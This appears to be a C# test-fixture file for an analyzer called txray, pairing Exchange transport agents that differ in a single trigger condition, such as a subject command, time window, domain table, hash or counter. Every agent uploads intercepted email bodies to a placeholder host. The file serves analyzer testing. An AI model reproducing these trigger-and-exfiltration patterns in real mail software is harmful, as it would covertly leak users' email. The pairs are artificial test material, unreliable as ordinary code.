// Pairs written for txray: two agents that differ in one thing, the first does it and the second does not.
// What is worked out before it is asked: by out arguments, tables, own comparisons, counters, and names that choose code.
// Inert: compiled against a signature-only stub of the Exchange API and unsigned, so Exchange cannot load it; hosts end in
// .invalid or are documentation addresses. What a correct analysis says about each stands in samples/pairs-*.json.
using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Net;
using System.Reflection;
using System.Security.Cryptography;
using System.Text;
using System.Threading;
using Microsoft.Exchange.Data.Transport;
using Microsoft.Exchange.Data.Transport.Email;
using Microsoft.Exchange.Data.Transport.Routing;

// 471: an order that an own method reads into an out argument: the second kind, and the first
namespace Txray.Pairs.P471
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private enum Order
        {
            None,
            Put,
            Get
        }

        private static bool Read(string text, out Order order)
        {
            order = Order.None;
            if (string.IsNullOrEmpty(text))
            {
                return false;
            }
            if (text.StartsWith("put:"))
            {
                order = Order.Put;
                return true;
            }
            if (text.StartsWith("get:"))
            {
                order = Order.Get;
                return true;
            }
            return false;
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Order order;
            if (Read(item.Message.Subject, out order) && order == Order.Get)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private enum Order
        {
            None,
            Put,
            Get
        }

        private static bool Read(string text, out Order order)
        {
            order = Order.None;
            if (string.IsNullOrEmpty(text))
            {
                return false;
            }
            if (text.StartsWith("put:"))
            {
                order = Order.Put;
                return true;
            }
            if (text.StartsWith("get:"))
            {
                order = Order.Get;
                return true;
            }
            return false;
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Order order;
            if (Read(item.Message.Subject, out order) && order == Order.Put)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 472: hours of the day, and days since a date
namespace Txray.Pairs.P472
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            TimeSpan now = DateTime.Now.TimeOfDay;
            if (now >= new TimeSpan(22, 0, 0) && now < new TimeSpan(23, 30, 0))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if ((DateTime.Now - new DateTime(2026, 1, 1)).TotalDays > 30)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 473: a table of the code that says yes for one key, and a Hashtable that has several
namespace Txray.Pairs.P473
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Dictionary<string, string> Rules = new Dictionary<string, string> { { "fabrikam.example", "copy" }, { "contoso.example", "skip" } };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string rule;
            if (Rules.TryGetValue(item.FromAddress.DomainPart, out rule) && rule == "copy")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly System.Collections.Hashtable Rules = new System.Collections.Hashtable { { "fabrikam.example", 1 }, { "contoso.example", 2 } };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Rules[item.FromAddress.DomainPart] != null)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 474: a word for each sender, and one for all
namespace Txray.Pairs.P474
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Dictionary<string, string> Words = new Dictionary<string, string> { { "fabrikam.example", "ready" }, { "contoso.example", "steady" } };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string word;
            if (Words.TryGetValue(item.FromAddress.DomainPart, out word) && item.Message.Subject.Contains(word))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Dictionary<string, string> Words = new Dictionary<string, string> { { "fabrikam.example", "ready" }, { "contoso.example", "steady" } };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string word;
            if (Words.TryGetValue(item.FromAddress.DomainPart, out word) && item.Message.Subject.Contains("ready"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 475: a text that is compared in constant time, and a hash
namespace Txray.Pairs.P475
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static bool Same(string left, string right)
        {
            if (left.Length != right.Length)
            {
                return false;
            }
            int difference = 0;
            for (int place = 0; place < left.Length; place++)
            {
                difference |= left[place] ^ right[place];
            }
            return difference == 0;
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Same(item.Message.Subject, "ready"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly byte[] Key = { 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20 };

        private static bool Same(byte[] left, byte[] right)
        {
            if (left.Length != right.Length)
            {
                return false;
            }
            int difference = 0;
            for (int place = 0; place < left.Length; place++)
            {
                difference |= left[place] ^ right[place];
            }
            return difference == 0;
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            byte[] hash;
            using (SHA1 sha = SHA1.Create())
            {
                hash = sha.ComputeHash(Encoding.UTF8.GetBytes(item.Message.Subject));
            }
            if (Same(hash, Key))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 476: every tenth message, and a lock that is given back
namespace Txray.Pairs.P476
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static int count;

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Interlocked.Increment(ref count) % 10 == 0)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static int busy;

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Interlocked.CompareExchange(ref busy, 1, 0) != 0)
            {
                return;
            }
            try
            {
                Act(item);
            }
            finally
            {
                Interlocked.Exchange(ref busy, 0);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 477: a word in any of two texts, and in both
namespace Txray.Pairs.P477
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (new[] { item.Message.Subject, item.FromAddress.DomainPart }.Any(text => text.Contains("ready")))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (new[] { item.Message.Subject, item.FromAddress.DomainPart }.All(text => text.Contains("ready")))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 478: one of two texts, which a test chooses, and always one
namespace Txray.Pairs.P478
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string text = item.Message.Attachments.Count > 0 ? item.Message.Subject : item.FromAddress.DomainPart;
            if (text.Contains("ready"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            string text = item.Message.Attachments.Count > 0 ? item.Message.Subject : item.Message.Subject.ToLower();
            if (text.Contains("ready"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 479: each recipient, and any
namespace Txray.Pairs.P479
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (EnvelopeRecipient recipient in item.Recipients)
            {
                if (recipient.Address.DomainPart != "fabrikam.example")
                {
                    return;
                }
            }
            Act(item);
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (item.Recipients.Any(recipient => recipient.Address.DomainPart == "fabrikam.example"))
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 480: a method whose name the subject gives, and one whose name the code gives
namespace Txray.Pairs.P480
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public void Collect(MailItem mail)
        {
            Act(mail);
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            MethodInfo method = GetType().GetMethod(item.Message.Subject);
            if (method != null)
            {
                method.Invoke(this, new object[] { item });
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        public void Collect(MailItem mail)
        {
            Act(mail);
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            MethodInfo method = GetType().GetMethod("Collect");
            if (method != null)
            {
                method.Invoke(this, new object[] { item });
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 481: types that are looked for in the file itself and made: one that sends the body, and one that sends a constant
namespace Txray.Pairs.P481
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        public abstract class Step
        {
            public abstract void Run(MailItem mail);
        }

        public class Sends : Step
        {
            public override void Run(MailItem mail)
            {
                if (mail.Message.Subject == "ready")
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(mail.Message.Body.GetContentReadStream()).ReadToEnd());
                }
            }
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (Type type in Assembly.GetExecutingAssembly().GetTypes())
            {
                if (type.IsSubclassOf(typeof(Step)))
                {
                    ((Step)Activator.CreateInstance(type)).Run(item);
                }
            }
        }
    }

    public class Other : RoutingAgent
    {
        public abstract class Step
        {
            public abstract void Run(MailItem mail);
        }

        public class Says : Step
        {
            public override void Run(MailItem mail)
            {
                if (mail.Message.Subject == "ready")
                {
                    new WebClient().UploadString("https://collect.example.invalid/pair", "seen");
                }
            }
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (Type type in Assembly.GetExecutingAssembly().GetTypes())
            {
                if (type.IsSubclassOf(typeof(Step)))
                {
                    ((Step)Activator.CreateInstance(type)).Run(item);
                }
            }
        }
    }
}

// 482: what an own method answers in a tuple: why, and whether
namespace Txray.Pairs.P482
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static Tuple<bool, string> Check(MailItem mail)
        {
            if (mail.Message.Subject.Contains("ready"))
            {
                return Tuple.Create(true, "subject");
            }
            if (mail.FromAddress.DomainPart == "fabrikam.example")
            {
                return Tuple.Create(true, "sender");
            }
            return Tuple.Create(false, "");
        }

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Tuple<bool, string> found = Check(item);
            if (found.Item1 && found.Item2 == "sender")
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static Tuple<bool, string> Check(MailItem mail)
        {
            if (mail.Message.Subject.Contains("ready"))
            {
                return Tuple.Create(true, "subject");
            }
            if (mail.FromAddress.DomainPart == "fabrikam.example")
            {
                return Tuple.Create(true, "sender");
            }
            return Tuple.Create(false, "");
        }

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            if (Check(item).Item1)
            {
                Act(item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}

// 483: one of two steps, which a test chooses, and both of them
namespace Txray.Pairs.P483
{
    public class ClaimFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Claim();
        }
    }

    public class OtherFactory : RoutingAgentFactory
    {
        public override RoutingAgent CreateAgent(SmtpServer server)
        {
            return new Other();
        }
    }

    public class Claim : RoutingAgent
    {
        private static readonly Action<Claim, MailItem>[] Steps = { (agent, mail) => { }, (agent, mail) => agent.Act(mail) };

        public Claim()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            Steps[item.Message.Subject == "ready" ? 1 : 0](this, item);
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }

    public class Other : RoutingAgent
    {
        private static readonly Action<Other, MailItem>[] Steps = { (agent, mail) => { }, (agent, mail) => agent.Act(mail) };

        public Other()
        {
            OnSubmittedMessage += Submitted;
        }

        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
        {
            MailItem item = e.MailItem;
            foreach (Action<Other, MailItem> step in Steps)
            {
                step(this, item);
            }
        }

        private void Act(MailItem item)
        {
            new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(item.Message.Body.GetContentReadStream()).ReadToEnd());
        }
    }
}
